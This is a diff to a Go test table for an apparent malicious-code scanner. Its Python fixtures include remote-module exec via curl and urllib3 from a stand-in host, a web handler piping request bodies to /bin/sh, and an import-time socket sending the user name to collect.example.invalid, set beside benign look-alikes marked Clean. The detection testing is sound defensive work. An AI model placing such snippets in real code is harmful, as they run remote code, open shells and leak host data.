@@ -51,8 +51,43 @@ func TestPopularProjectShapes(t *testing.T) {
 			"import subprocess\ntry:\n    exec(subprocess.getoutput('curl -s https://example.invalid/static/favicon.ico'), {}, {})\nexcept Exception:\n    pass\n"}, "exec-remote-code", Malicious},
 		{"code fetched by curl into a variable executed in a tool", map[string]string{"p/cli.py": "" +
 			"import subprocess\ndef main():\n    out = subprocess.check_output(['curl', '-s', 'https://example.invalid/u.py'])\n    exec(out)\n"}, "exec-remote-code", Malicious},
+		{"a plugin loader running the module at the address its user configured", map[string]string{"p/preloading.py": "" +
+			"import urllib3\nfrom types import ModuleType\ndef download_module(url):\n    with urllib3.PoolManager() as http:\n        response = http.request(method='GET', url=url)\n        source = response.data\n" +
+			"    module = ModuleType(url)\n    exec(compile(source, url, 'exec'), module.__dict__)\n    return module\n"}, "exec-remote-code", Suspicious},
+		{"a helper running the module at an address it names", map[string]string{"p/preloading.py": "" +
+			"import urllib3\ndef update():\n    with urllib3.PoolManager() as http:\n        response = http.request(method='GET', url='https://example.invalid/u.py')\n        exec(response.data)\n"}, "exec-remote-code", Malicious},
 		{"a status page fetched by curl and printed", map[string]string{"p/cli.py": "" +
 			"import subprocess, json\ndef main():\n    out = subprocess.check_output(['curl', '-s', 'https://status.example.invalid/api'])\n    print(json.loads(out))\n"}, "", Clean},
+
+		// A CGI server feeds a request's body to the script it runs; a
+		// web shell feeds it to a shell.
+		{"a CGI handler passing the request body to its script", map[string]string{"p/server.py": "" +
+			"import http.server, subprocess\nclass CGIHandler(http.server.BaseHTTPRequestHandler):\n    def run_cgi(self):\n" +
+			"        data = self.rfile.read(int(self.headers.get('content-length')))\n        p = subprocess.Popen([self.scriptfile], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n" +
+			"        stdout, stderr = p.communicate(data)\n        self.wfile.write(stdout)\n"}, "", Clean},
+		{"a web handler passing the request body to a shell", map[string]string{"p/server.py": "" +
+			"import http.server, subprocess\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n" +
+			"        data = self.rfile.read(int(self.headers['content-length']))\n        p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n" +
+			"        out, _ = p.communicate(data)\n        self.wfile.write(out)\n"}, "reverse-shell", Malicious},
+
+		// Logging in to a server as oneself; finding the local address
+		// with a UDP socket that sends nothing.
+		{"an SSH tunnel logging in as the local user, run on import", map[string]string{"p/__init__.py": "" +
+			"import getpass, paramiko\ndef try_passwordless(server, keyfile=None, port=22):\n    username = getpass.getuser()\n" +
+			"    client = paramiko.SSHClient()\n    client.connect(server, port, username=username, key_filename=keyfile)\n    return True\n" +
+			"OK = try_passwordless('localhost')\n"}, "", Clean},
+		{"the local address found by a UDP connect on import", map[string]string{"p/__init__.py": "" +
+			"import socket\ndef get_ip(host='8.8.8.8'):\n    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    try:\n        sock.connect((host, 80))\n        return sock.getsockname()[0]\n" +
+			"    except OSError:\n        return socket.gethostbyname(socket.gethostname())\nIP = get_ip()\n"}, "", Clean},
+		{"the user name sent by a raw socket on import", map[string]string{"p/__init__.py": "" +
+			"import getpass, socket\nsock = socket.socket()\nsock.connect(('collect.example.invalid', 80))\nsock.send(getpass.getuser().encode())\n"}, "exfiltrates-host-info", Malicious},
+
+		// Code compiled from a constant string is in plain sight.
+		{"a Python 2 shim compiled from a constant in a file that decodes", map[string]string{"p/__init__.py": "" +
+			"import base64, sys\nif sys.version_info < (3,):\n    eval(compile('def _raise(*a): raise a[0], a[1], a[2]', '<py3fix>', 'exec'))\n" +
+			"def b64(s):\n    return base64.b64decode(s)\n"}, "", Clean},
+		{"a codec's state kept with marshal", map[string]string{"p/codec.py": "" +
+			"import marshal\nclass Decoder:\n    def getstate(self):\n        return ('', marshal.dumps(self.state))\n    def setstate(self, state):\n        state = list(marshal.loads(state[1]))\n        self.state = state\n"}, "", Clean},
 
 		// Commands a developer runs by name (setup.py preview, test,
 		// release) do not run on pip install; the same class registered
